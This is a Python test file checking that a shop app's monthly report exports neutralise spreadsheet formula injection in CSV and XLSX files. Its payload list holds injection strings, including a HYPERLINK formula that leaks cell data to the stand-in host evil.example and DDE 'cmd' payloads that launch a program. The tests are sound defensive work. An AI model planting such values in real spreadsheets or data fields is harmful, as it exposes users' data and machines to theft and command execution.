"""Names that look like formulas never run in the owner's spreadsheet: CSV cells made inert, XLSX cells strings."""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal, InvalidOperation

import openpyxl
from sqlalchemy import select, update

from desktop_app.core.db.models import Customer, Return, ReturnLine
from desktop_app.core.reports.export import FORMULA_STARTS, export_summary
from desktop_app.core.reports.monthly import build_monthly_summary

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]


def _poison(db) -> None:
    """Give every customer, product name, SKU and channel of the month's returns a formula for a name."""
    with db.write() as s:
        customers = sorted({cid for cid in s.scalars(select(Return.customer_id)) if cid is not None})
        for n, cid in enumerate(customers):
            s.execute(update(Customer).where(Customer.id == cid).values(name=PAYLOADS[n % len(PAYLOADS)]))
        for n, line in enumerate(s.scalars(select(ReturnLine).order_by(ReturnLine.id))):
            line.name = PAYLOADS[(n + 1) % len(PAYLOADS)]
            line.sku = f"{PAYLOADS[(n + 2) % len(PAYLOADS)]}#{n}"
        s.execute(update(Return).values(channel="=1+2"))


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def test_csv_cells_never_start_like_a_formula(known_shop, tmp_path):
    _poison(known_shop)
    path = export_summary(build_monthly_summary(known_shop, "2026-10"), tmp_path / "october.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert live == []
    inert = {c for c in cells if c.startswith("'")}
    assert f"'{PAYLOADS[0]}" in inert and len(inert) >= 4  # the names are still there, readable, as text


def test_xlsx_has_no_formula_anywhere(known_shop, tmp_path):
    _poison(known_shop)
    path = export_summary(build_monthly_summary(known_shop, "2026-10"), tmp_path / "october.xlsx")
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    workbook = openpyxl.load_workbook(path)
    found = {cell.value for ws in workbook.worksheets for row in ws.iter_rows() for cell in row}
    assert PAYLOADS[0] in found  # the names are kept as they are, as strings
    assert all(cell.data_type != "f" for ws in workbook.worksheets for row in ws.iter_rows() for cell in row)
